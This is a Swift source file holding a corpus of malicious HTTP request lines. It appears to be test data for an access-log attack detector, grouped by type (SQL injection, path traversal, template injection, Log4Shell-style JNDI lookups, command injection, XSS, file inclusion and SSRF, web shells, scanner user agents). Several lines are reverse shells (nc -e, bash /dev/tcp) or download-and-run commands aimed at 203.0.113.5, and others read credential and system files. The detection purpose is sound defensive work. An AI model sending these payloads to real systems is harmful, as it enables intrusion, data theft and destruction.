import AccessLogs

/// Requests that attack, by sign: one a line. A line is a target; `POST /x` names another method, `ua:…` is a user agent and `referer:…` a referer.
enum AttackCorpus {
    static let all: [(sign: AttackSigns, requests: String)] = [
        (.sqlInjection, sqlInjection), (.sqlInjection, sqlObfuscated), (.traversal, traversal), (.templateInjection, templateInjection),
        (.deserialisation, deserialisation), (.commandInjection, commandInjection), (.crossSiteScripting, crossSiteScripting),
        (.fileInclusion, fileInclusion), (.webShell, webShell), (.scannerTool, scannerTool), (.probePath, probePath),
        (.adminInterface, adminInterface),
    ]

    private static let sqlInjection = #"""
        /patient?id=1'
        /patient?id=1%27
        /news.php?id=12%27%22
        /api/v1/patient?id=1%27%20OR%20%271%27=%271
        /api/v1/patient?id=1'+or+'1'='1
        /api/v1/patient?id=1+or+1=1
        /api/v1/patient?id=1%20or%201%3D1--
        /api/v1/patient?id=1)+or+(1=1
        /api/v1/patient?id=1'))+or+((1=1--+
        /login?user=admin'--&pass=x
        /login?user=admin'%23&pass=x
        /login?user=admin'/*&pass=x
        /login?user=admin%27+or+%271%27%3D%271%27+--+&pass=1
        /login?user=%27+or+%27%27%3D%27&pass=%27+or+%27%27%3D%27
        /login?user=x'+or+1--+-&pass=
        /login?user=x%22+or+%22a%22%3D%22a&pass=1
        /list?id=-1+union+select+1,2,3
        /list?id=-1+UNION+ALL+SELECT+NULL,NULL,NULL--+-
        /list?id=1'+union+select+user,password+from+users--+
        /list?id=1%27%20union%20select%20null%2Cversion()%2Cnull--%20
        /list?cat=9999+union+select+concat(username,0x3a,password),2+from+admin
        /list?id=1+union(select+1,2,3)
        /list?id=1.0union+select+1,2
        /list?id=1e0union+select+1,2
        /list?id=(select+1+from+dual)
        /list?id=1+and+(select+count(*)+from+information_schema.tables)>0
        /list?id=1+and+ascii(substring((select+database()),1,1))>64
        /list?id=1'+and+substr(version(),1,1)='5
        /list?id=1+and+1=2
        /list?id=1a+union+(select+id+from+users+limit+1,1)
        /list?id=-1%23x%0A+union+(select+id+from+users)
        /list?id=-1--%0Aunion(select+1,2)
        /list?id=0+or+1+group+by+concat(version(),floor(rand(0)*2))having+min(0)--
        /list?id=0')union(select(1),(2),3)--+
        /list?id=1+and+(select+dcount(last(username)))
        /list?id=1'+and+'x'='y
        /list?id=1+and+sleep(5)
        /list?id=1'+and+sleep(5)--+
        /list?id=1'+and+if(1=1,sleep(5),0)+and+'1'='1
        /list?id=1;waitfor+delay+'0:0:5'--
        /list?id=1'+waitfor+delay+'0:0:5'--
        /list?id=1;select+pg_sleep(5)--
        /list?id=1'||(select+pg_sleep(5))||'
        /list?id=1'||utl_inaddr.get_host_address((select+user+from+dual))||'
        /list?id=1+and+1=dbms_pipe.receive_message('a',5)
        /list?id=benchmark(10000000,md5('a'))
        /list?id=1+order+by+10--+
        /list?id=1'+order+by+5--+
        /list?id=1+order+by+1
        /list?id=1'+group+by+id+having+1=1--
        /list?id=1+procedure+analyse(extractvalue(rand(),concat(0x3a,version())),1)
        /list?id=1+and+extractvalue(1,concat(0x7e,(select+user())))
        /list?id=1+and+updatexml(1,concat(0x7e,database()),1)
        /list?id=1'+and+(select+1+from(select+count(*),concat(version(),floor(rand(0)*2))x+from+information_schema.tables+group+by+x)a)--+
        /list?id=1;drop+table+users--
        /list?id=1';drop+table+patients;--
        /list?id=1';insert+into+users+values('x','y');--
        /list?id=1;update+users+set+role='admin'+where+id=1--
        /list?id=1;delete+from+logs
        /list?id=1;exec+master..xp_cmdshell+'whoami'
        /list?id=1;exec+xp_dirtree+'//203.0.113.5/a'
        /list?id=1;declare+@x+varchar(99)
        /list?id=1+into+outfile+'/var/www/html/x.php'
        /list?id=1'+limit+0,1+into+outfile+'/tmp/x'--+
        /list?id=1+union+select+load_file('/etc/passwd')
        /list?id=1+union+select+@@version,2
        /list?id=1'+union+select+name,sql+from+sqlite_master--
        /list?id=1+and+(select+substr(sql,1,1)+from+sqlite_master)='c'
        /list?sort=(case+when+(1=1)+then+id+else+name+end)
        /list?sort=if(1=1,sleep(2),id)
        /list?order=id,(select+sleep(3))
        /list?sort=id+desc,(select+1+from(select+sleep(5))a)
        /search?q=test%25'+and+1=1+and+'%25'='
        /search?q=test%25%27+union+select+1%2C2%23
        /search?name=%E5%BC%A0%27+or+1%3D1--+
        /search?name=%E5%BC%A0%E4%B8%89%27+and+%271%27%3D%271
        /item/1'+or+'1'='1
        /item/12%20union%20select%201,2,3
        /item/5%27%20and%20sleep(3)--%20
        /api/user?id=1%20AND%208134%3D8134%20AND%20%285342%3D5342
        /api/user?id=1%27%20AND%204321%3D4321%20AND%20%27abcd%27%3D%27abcd
        /api/user?id=1%29%3BSELECT%20PG_SLEEP%285%29--
        /api/user?id=-4711%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x716b%2C0x41%2C0x7170%29--%20-
        /api/user?id=%28SELECT%20CONCAT%280x7162%2C%28SELECT%20%28ELT%281%3D1%2C1%29%29%29%2C0x71%29%29
        /api/user?id=1%20AND%20%28SELECT%202%20FROM%20%28SELECT%28SLEEP%285%29%29%29abcd%29
        /api/user?id=%28SELECT%20%28CASE%20WHEN%20%281%3D1%29%20THEN%201%20ELSE%20%28SELECT%202%20UNION%20SELECT%203%29%20END%29%29
        /api/user?id=1.%2C%29%22%27%28.
        /login?username[$ne]=x&password[$ne]=y
        /login?username=admin&password[$regex]=.*
        /api/q?filter=%7B%22%24where%22%3A%22sleep(1000)%22%7D
        /api/user?id=1'='1
        /api/user?name=a'like'a
        /api/user?id=1'+is+null--+
        /api/user?id=1'+between+1+and+2--+
        /api/user?id=1'+in+(1,2)--
        /api/user?id=1+xor+1=2
        /api/user?id=1+rlike+(select+(case+when+(1=1)+then+1+else+0x28+end))
        ua:Mozilla/5.0' AND SLEEP(5)-- -
        ua:x' or 1=1--
        ua:1'||(select(0)from(select(sleep(15)))v)||'
        referer:https://example.org/'+and+sleep(5)--+
        referer:https://example.org/?id=1%27%20or%20%271%27=%271
        """#

    private static let sqlObfuscated = #"""
        /list?id=1/**/union/**/select/**/1,2,3
        /list?id=1/*!50000union*/+/*!50000select*/+1,2,3
        /list?id=-1%0aunion%0aselect%0a1,2
        /list?id=1%09or%091=1
        /list?id=1%a0union%a0select%a01,2
        /list?id=1%0b||%0b1=1
        /list?id=1%2527%2520or%25201%253D1--
        /list?id=1%u0027%20or%201=1--
        /list?id=1%27/**/or/**/1=1/**/--
        /list?id=1'or'1'='1
        /list?id=1'or(1)=(1)--
        /list?id=1'||'1'='1
        /list?id=1%27%20%26%26%201%3D1--%20
        /list?id=1+uNiOn+aLl+sElEcT+1,2
        /list?id=-1+union+distinct+select+1,2
        /list?id=1+union+select+*+from+users
        /list?id=0x31+or+0x31=0x31
        /list?id=1+or+1+like+1
        /list?id=1'+or+'x'+in+('x')--
        /list?id=1+or+not+1=2
        /list?id=1+or+true--
        /list?id=1'+or+true%23
        /list?id=1'%20or%20@@version%3E0--
        /list?id=1;%20shutdown--
        /list?id=1%bf%27+or+1=1--
        /list?id=1\'+or+1=1--
        /list?id=1\x27 or 1=1--
        /list?id=1\x22 or \x221\x22=\x221
        /list?id=%c0%a7+or+1=1--
        /list?id=1'/**/and/**/(select/**/sleep(5))--
        /list?id=1)/**/and/**/1=1--
        /list?id=1'%23%0aunion%23%0aselect+1,2
        /list?id=if(now()=sysdate(),sleep(15),0)
        /list?id=0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z
        """#

    private static let traversal = #"""
        /../../../../etc/passwd
        /..%2f..%2f..%2fetc%2fpasswd
        /%2e%2e/%2e%2e/%2e%2e/etc/passwd
        /%2e%2e%2f%2e%2e%2fetc%2fshadow
        /..%252f..%252f..%252fetc%252fpasswd
        /%252e%252e%252f%252e%252e%252fetc/passwd
        /..%c0%af..%c0%af..%c0%afetc/passwd
        /%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
        /..%c1%9c..%c1%9cwindows/system32/cmd.exe
        /%uff0e%uff0e/%uff0e%uff0e/etc/passwd
        /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd
        /cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd
        /icons/.%2e/%2e%2e/apache2/icons/
        /..\..\..\windows\win.ini
        /..%5c..%5c..%5cwindows%5cwin.ini
        /scripts/..%255c../winnt/system32/cmd.exe
        /static/../../../../../../etc/passwd
        /static../.git/config
        /assets../etc/hosts
        /public/plugins/alertlist/../../../../../../../../etc/passwd
        /..;/manager/html
        /app/..;/..;/manager/html
        /download?file=../../../../etc/passwd
        /download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd
        /download?file=....//....//....//etc/passwd
        /download?file=..././..././etc/passwd
        /download?file=/etc/passwd
        /download?file=%2Fetc%2Fpasswd
        /download?path=..\..\..\boot.ini
        /download?path=C:\Windows\win.ini
        /download?path=c%3A%5Cwindows%5Cwin.ini
        /download?file=../../../../etc/passwd%00.jpg
        /download?name=../../WEB-INF/web.xml
        /download?name=../WEB-INF/web.xml
        /download?name=..%2f..%2fwp-config.php
        /image?src=../../../config/database.yml
        /image?f=../../../../../../../../../../proc/self/environ
        /img?f=/proc/self/cmdline
        /view?page=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fgroup
        /view?page=%252e%252e%252fetc%252fpasswd
        /view?page=..%u2215..%u2215..%u2215etc%u2215passwd
        /api/files/..%2f..%2f..%2fapplication.properties
        /api/files?key=../../../../../root/.ssh/id_rsa
        /api/export?tpl=../../../../var/log/nginx/access.log
        /logs?file=/var/log/auth.log
        /x?file=file/../../../../boot.ini
        /%2e%2e%5c%2e%2e%5cwindows%5cwin.ini
        /page?f=..%e0%80%af..%e0%80%afetc/passwd
        """#

    private static let templateInjection = #"""
        /hello?name={{7*7}}
        /hello?name=%7B%7B7*7%7D%7D
        /hello?name={{7*'7'}}
        /hello?name=${7*7}
        /hello?name=$%7B7*7%7D
        /hello?name=%23%7B7*7%7D
        /hello?name=<%25=+7*7+%25>
        /hello?name=*{7*7}
        /hello?name={{config}}
        /hello?name={{config.items()}}
        /hello?name={{''.__class__.__mro__[2].__subclasses__()}}
        /hello?name={{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}
        /hello?name={{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}
        /hello?name={{_self.env.registerUndefinedFilterCallback("exec")}}
        /hello?name=<%23assign+ex="freemarker.template.utility.Execute"?new()>${ex("id")}
        /hello?name=%23set($x='')%23set($rt=$x.class.forName('java.lang.Runtime'))
        /hello?name={{constructor.constructor('alert(1)')()}}
        /hello?name={php}echo+1;{/php}
        /hello?name={{dump(app)}}
        /hello?name={%25+for+c+in+[].__class__.__base__.__subclasses__()+%25}
        /hello?name=@(1%2B2)
        /hello/%7B%7B1337*1337%7D%7D
        /hello?name=${{7*7}}
        /hello?name={{lipsum.__globals__}}
        /hello?name=[[${7*7}]]
        /hello?name=%2524%257B7*7%257D
        """#

    private static let deserialisation = #"""
        /?x=${jndi:ldap://203.0.113.5/a}
        /?x=%24%7Bjndi:ldap://203.0.113.5:1389/a%7D
        /?x=${${lower:j}ndi:ldap://203.0.113.5/a}
        /?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.5/a}
        /?x=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.5/a}
        /?x=${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.5/a}
        /?x=${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.5/a}
        /?x=${jnd${upper:%C4%B1}:ldap://203.0.113.5/a}
        /?x=${${upper:j}${upper:n}${lower:d}i:rmi://203.0.113.5/a}
        /?x=%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.5%252Fa%257D
        /$%7Bjndi:dns://203.0.113.5/a%7D
        ua:${jndi:ldap://203.0.113.5/a}
        ua:${${lower:jndi}:${lower:rmi}://203.0.113.5/a}
        referer:${jndi:ldap://203.0.113.5/a}
        referer:https://x/${${::-j}ndi:ldap://203.0.113.5/a}
        /api?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA
        /api?data=%22rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ%22
        /api?obj=aced00057372001164617461
        /api?data=%AC%ED%00%05sr
        /api?data={"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.5/a"}
        /api?data=%7B%22%40type%22%3A%22java.net.Inet4Address%22%2C%22val%22%3A%22x.example%22%7D
        /api?data={"\u0040type":"java.lang.AutoCloseable"}
        /api?data={"x":{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;"}}
        /index.php?data=O:8:"stdClass":1:{s:1:"a";i:1;}
        /index.php?data=O%3A11%3A%22Application%22%3A1%3A%7Bs%3A4%3A%22file%22%3B%7D
        /index.php?data=a:1:{i:0;O:4:"Test":0:{}}
        /index.action?redirect:${%23a%3d(new+java.lang.ProcessBuilder('id')).start()}
        /index.action?redirect%3A%24%7B%23context%5B%27xwork%27%5D%7D
        /login.action?x=%25%7B(%23_memberAccess%3D@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)%7D
        /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/index.action
        /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/
        /?name=${T(java.lang.Runtime).getRuntime().exec("id")}
        /?name=%23%7BT(java.lang.Runtime).getRuntime()%7D
        /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
        /?class%5B%27module%27%5D.classLoader=1&class.classLoader.URLs%5B0%5D=0
        /api?y=!!python/object/apply:os.system+["id"]
        /api?y=!!javax.script.ScriptEngineManager+[!!java.net.URLClassLoader]
        /api?d=AAEAAAD/////AQAAAAAAAAAMAgAAAE
        /api?p=gASVIQAAAAAAAACMBXBvc2l4
        /users?spring.cloud.function.routing-expression=T(java.lang.Runtime)
        """#

    private static let commandInjection = #"""
        /ping?ip=127.0.0.1;id
        /ping?ip=127.0.0.1|id
        /ping?ip=127.0.0.1%7Cwhoami
        /ping?ip=127.0.0.1%3Bcat+/etc/passwd
        /ping?ip=127.0.0.1%26%26whoami
        /ping?ip=127.0.0.1||whoami
        /ping?ip=127.0.0.1%0Acat%20/etc/passwd
        /ping?ip=127.0.0.1%0aid
        /ping?ip=`id`
        /ping?ip=%60whoami%60
        /ping?ip=$(id)
        /ping?ip=$(curl+http://203.0.113.5/x)
        /ping?ip=%24%28sleep%205%29
        /ping?ip=1;sleep+5
        /ping?ip=1;wget+http://203.0.113.5/x.sh+-O+/tmp/x;sh+/tmp/x
        /ping?ip=1;curl${IFS}203.0.113.5
        /ping?ip=1;cat${IFS}/etc/passwd
        /ping?ip=1;cat$IFS$9/etc/passwd
        /ping?ip=1;{cat,/etc/passwd}
        /ping?ip=1;cat</etc/passwd
        /ping?ip=1;c'a't+/etc/passwd
        /ping?ip=1;w'h'o'am'i
        /ping?ip=1|ping+-n+5+203.0.113.5
        /ping?ip=1%26ping%20-c%205%20203.0.113.5
        /ping?ip=1|type+c:\boot.ini
        /ping?ip=1|dir+c:\
        /ping?ip=1;uname+-a
        /ping?ip=1;nslookup+x.example.org
        /ping?ip=1;nc+-e+/bin/sh+203.0.113.5+4444
        /ping?ip=1;bash+-i+>%26+/dev/tcp/203.0.113.5/4444+0>%261
        /ping?ip=1;/bin/bash+-c+'id'
        /ping?ip=1|powershell+-enc+SQBFAFgA
        /ping?ip=1|net+user
        /ping?ip=1;python+-c+'import+os'
        /ping?ip=1;echo+'YWJj'|base64+-d|sh
        /x?cmd=cat+/etc/passwd
        /x?cmd=whoami
        /x?exec=ls+-la
        /x?c=id
        /cgi-bin/x.cgi?;id;
        /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.5/m
        /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.5/m
        /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)
        /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1
        /index.php?x=system('id');
        /index.php?x=<?php+phpinfo();
        /index.php?x=${@print(md5(1))}
        /index.php?x=print(md5(31337))
        /index.php?x=shell_exec('id')
        /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?x=<?=md5(1);
        /x?a=;require('child_process').exec('id')
        /x?a=__import__('os').popen('id').read()&b=os.system('id')
        /x?a=1%3Bprintenv
        /x?a=1;%20id
        /x?file=a.txt;ls+/
        ua:() { :;}; /bin/bash -c "id"
        ua:() { ignored; }; echo x
        referer:() { :; }; /bin/ping -c 3 203.0.113.5
        /x?a=1%26%26id
        /convert?url=https://x.example/%22|id%20%22
        /upload?name=a.png;whoami
        """#

    private static let crossSiteScripting = #"""
        /search?q=<script>alert(1)</script>
        /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E
        /search?q=%253Cscript%253Ealert(1)%253C/script%253E
        /search?q=<ScRiPt>alert(1)</sCrIpT>
        /search?q=<script/src=//x.example/a.js>
        /search?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E
        /search?q=<img+src=x+onerror=alert(1)>
        /search?q=%3Cimg%20src=x%20onerror=alert(1)%3E
        /search?q=<svg/onload=alert(1)>
        /search?q=<svg%0Aonload=alert(1)>
        /search?q=<body+onload=alert('x')>
        /search?q=<iframe+src=javascript:alert(1)>
        /search?q=<iframe+srcdoc='<b>'>
        /search?q=<object+data=data:text/html;base64,PHNjcmlwdD4=>
        /search?q=<embed+src=//x.example/a.swf>
        /search?q=<a+href=javascript:alert(1)>x</a>
        /search?q=<a+href="java%09script:alert(1)">x</a>
        /search?q=javascript:alert(1)
        /search?url=javascript:fetch('//x.example/'+document.cookie)
        /search?q="+onmouseover="alert(1)
        /search?q=%22%20autofocus%20onfocus%3Dalert(1)%20x%3D%22
        /search?q='+onclick='prompt(1)
        /search?q=<details+open+ontoggle=confirm(1)>
        /search?q=<input+autofocus+onfocus=eval(name)>
        /search?q=<video><source+onerror=alert(1)>
        /search?q=<marquee+onstart=alert(1)>
        /search?q=<math><mtext><img+src+onerror=alert(1)>
        /search?q=<x+onclick=alert(1)>x
        /search?q=<style>@import'//x.example/a.css';</style>
        /search?q=<link+rel=stylesheet+href=//x.example/a.css>
        /search?q=<meta+http-equiv=refresh+content=0;url=//x.example>
        /search?q=<base+href=//x.example/>
        /search?q=<form+action=//x.example/><input+name=p>
        /search?q=%u003cscript%u003ealert(1)%u003c/script%u003e
        /search?q=+ADw-script+AD4-alert(1)+ADw-/script+AD4-
        /search?q=\x3Cscript\x3Ealert(1)\x3C/script\x3E
        /search?q=alert`1`
        /search?q=';alert(String.fromCharCode(88,83,83))//
        /search?q=</title><script>alert(1)</script>
        /page/%3Cscript%3Ealert(1)%3C/script%3E
        /?<script>alert(1)</script>
        /search?q=top['al'%2b'ert'](1)
        """#

    private static let fileInclusion = #"""
        /index.php?page=php://filter/convert.base64-encode/resource=index
        /index.php?page=php://input
        /index.php?page=PHP%3A%2F%2Ffilter/read=string.rot13/resource=config.php
        /index.php?page=expect://id
        /index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==
        /index.php?page=data:text/plain,<?php+phpinfo();?>
        /index.php?page=phar:///tmp/x.phar/a
        /index.php?page=zip:///tmp/x.zip%23a
        /index.php?file=file:///etc/passwd
        /index.php?page=http://203.0.113.9/r57.txt?
        /index.php?page=http://x.example/shell.txt%3f
        /index.php?inc=http://203.0.113.9/a.php
        /index.php?include=ftp://203.0.113.9/c.txt
        /index.php?mosConfig=1&absolute_path=1&template=http://x.example/id.txt?
        /index.php?page=http://x.example/a.txt%00
        /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
        /index.php?+config-create+/&/<?=phpinfo()?>+/tmp/x.php&file=/usr/local/lib/php/pearcmd.php
        /proxy?url=http://169.254.169.254/latest/meta-data/
        /proxy?url=http%3A%2F%2F100.100.100.200%2Flatest%2Fmeta-data%2Fram
        /proxy?url=http://metadata.google.internal/computeMetadata/v1/
        /proxy?url=gopher://127.0.0.1:6379/_INFO
        /proxy?url=dict://127.0.0.1:11211/stat
        /proxy?url=file:///c:/windows/win.ini
        /xml?x=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+"file:///etc/passwd">]>
        /xml?x=%3C%21DOCTYPE%20a%20%5B%3C%21ENTITY%20%25%20b%20SYSTEM%20%22http%3A%2F%2Fx.example%2Fa.dtd%22%3E%5D%3E
        """#

    private static let webShell = #"""
        /shell.php
        /c99.php
        /r57.php?x=1
        /images/c99.php
        /b374k.php
        /wso.php
        POST /uploads/x8f3a.php
        /uploads/2024/05/abc.php?cmd=id
        /upload/20240501/7f3a9c.jsp
        POST /upload/1.aspx
        /Uploads/avatar/a.asp
        /userfiles/image/k.jsp
        /attachments/month_2405/r.php
        /wp-content/uploads/2024/01/wp-tmp.php
        /files/x.php?cmd=whoami
        /x.jsp?pwd=023&i=ls+-la
        /cmd.jsp?cmd=whoami
        /cmd.aspx
        /shell.jspx
        POST /1.php
        POST /a.jsp
        PUT /x.jsp/
        PUT /shell.jsp%20
        PUT /x.jspx
        MOVE /upload/a.txt.php
        /upload/a.jpg/x.php
        /upload/x.asp;.jpg
        /upload/x.php%00.jpg
        /static/behinder.jsp
        /godzilla.jsp
        /tunnel.jsp
        POST /images/x7a.php
        POST /css/2f.aspx
        /jspspy.jsp
        /alfacgiapi/perl.alfa
        /x.php?a=@eval($_POST[1])
        /.well-known/webshell.php
        /backdoor.php
        ua:antSword/v2.1
        ua:Godzilla/4.0
        /temp/evil3.phtml
        """#

    private static let scannerTool = #"""
        ua:sqlmap/1.7.2#stable (https://sqlmap.org)
        ua:Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)
        ua:Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
        ua:masscan/1.3 (https://github.com/robertdavidgraham/masscan)
        ua:Mozilla/5.0 zgrab/0.x
        ua:gobuster/3.6
        ua:DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
        ua:WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)
        ua:Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
        ua:Fuzz Faster U Fool v2.1.0
        ua:feroxbuster/2.10.1
        ua:Wfuzz/3.1.0
        ua:Mozilla/4.0 (Hydra)
        ua:Mozilla/5.0 (Windows NT 10.0) goby
        ua:Nessus SOAP v0.0.1
        ua:OpenVAS
        ua:Acunetix-Product (WVS)
        ua:WhatWeb/0.5.5
        ua:w3af.org
        ua:Arachni/v1.5
        ua:httpx - Open-source project (github.com/projectdiscovery/httpx)
        ua:Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)
        ua:Expanse, a Palo Alto Networks company, searches across the global IPv4 space
        ua:Mozilla/5.0 (l9scan/2.0; +https://leakix.net)
        ua:Mozilla/5.0 (compatible; InternetMeasurement/1.0)
        ua:Hello, World
        ua:dirsearch
        ua:xray
        ua:Yakit
        ua:commix/3.9
        /acunetix-wvs-test-for-some-inexistent-file
        /nmaplowercheck1700000000
        /x?u=http://abc123.oast.fun/
        /x?u=http://abc.dnslog.cn
        /x?u=http://abc.burpcollaborator.net
        /w00tw00t.at.ISC.SANS.DFind:)
        """#

    private static let probePath = #"""
        /.env
        /api/.env
        /.env.bak
        /.git/config
        /.git/HEAD
        /app/.git/index
        /.svn/entries
        /.aws/credentials
        /.DS_Store
        /.ssh/id_rsa
        /.vscode/sftp.json
        /wp-config.php.bak
        /wp-config.php~
        /web.config
        /WEB-INF/web.xml
        /actuator/heapdump
        /actuator/env
        /actuator/gateway/routes
        /heapdump
        /jolokia/list
        /druid/index.html
        /druid/websession.json
        /nacos/v1/auth/users?pageNo=1&pageSize=9
        /nacos/
        /swagger-ui.html
        /swagger-ui/index.html
        /v2/api-docs
        /doc.html
        /solr/admin/cores?wt=json
        /phpmyadmin/index.php
        /pma/
        /adminer.php
        /phpinfo.php
        /info.php
        /server-status
        /backup.zip
        /www.tar.gz
        /wwwroot.rar
        /db.sql
        /dump.sql.gz
        /data/patients.sql
        /index.php.bak
        /config.php.old
        /index.php.swp
        /wp-login.php
        /xmlrpc.php
        /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
        /boaform/admin/formLogin
        /HNAP1/
        /cgi-bin/luci/
        /_ignition/execute-solution
        /telescope/requests
        /manager/text/list
        /console/login/LoginForm.jsp
        /wls-wsat/CoordinatorPortType
        /jmx-console/
        /_cat/indices
        /_search?q=*
        /containers/json
        /v2/_catalog
        /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
        /dana-na/auth/url_default/welcome.cgi
        /owa/../autodiscover/autodiscover.json?@x
        /id_rsa
        /server.key
        /docker-compose.yml
        /composer.json
        /.htpasswd
        /%2eenv
        /%2e%67it/config
        /debug/pprof/heap
        /elmah.axd
        """#

    private static let adminInterface = #"""
        /admin
        /admin/
        /admin/login.php
        /admin.php
        /Admin/Index
        /administrator/index.php
        /manager/html
        /host-manager/html
        /actuator
        /druid/login.html
        /nacos/#/login
        /console
        /console/login
        /phpMyAdmin/
        /jenkins/login
        /solr/
        /wp-admin/
        /wp-login.php
        /admin/config.php
        /api/admin
        /adminer.php
        /h2-console/
        /kibana/app
        /grafana/login
        /xxl-job-admin/toLogin
        /%61dmin/
        """#
}
